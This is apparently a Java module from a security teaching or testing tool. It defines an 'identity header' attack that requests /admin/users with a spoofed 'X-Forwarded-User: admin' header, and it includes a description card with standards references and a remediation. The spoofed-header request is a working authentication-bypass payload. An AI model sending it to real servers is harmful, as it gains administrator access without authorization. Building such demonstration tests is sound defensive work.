package dev.gatehouse.desktop.attack;

import com.google.auto.service.AutoService;
import dev.gatehouse.desktop.exchange.Hop;
import java.util.List;

/** Says in a header who is calling, as a proxy would. */
@AutoService(Attack.class)
public final class IdentityHeader implements Attack {
  @Override
  public AttackCard card() {
    return new AttackCard(
        "identity-header",
        "A name in a header",
        AttackGroup.WIRE,
        "The attacker sends no credential, only the header by which a proxy would say that the administrator is calling.",
        "The name of an administrator, and a way to the server that leads past the proxy.",
        "The server was set up for a proxy in front of it that authenticates people, and believes its header from anybody.",
        "trust-identity-header",
        List.of("RFC 7239 §8.1", "OWASP API8:2023", "CWE-290"),
        "Prove who calls at the server itself, or take the header on a connection that only the proxy can open, and let the"
            + " proxy remove it from whatever comes in.");
  }

  @Override
  public AttackResult run(Target target) throws InterruptedException {
    Hop answer =
        target.send(
            "Ask for the list of all people, with X-Forwarded-User: admin and nothing else.",
            target.get("/admin/users").withHeader("X-Forwarded-User", "admin"));
    return target.end(
        answer.status() == 200 && !Events.body(answer).findValues("id").isEmpty(),
        "The attacker is taken for the administrator and reads the list of all people.");
  }
}
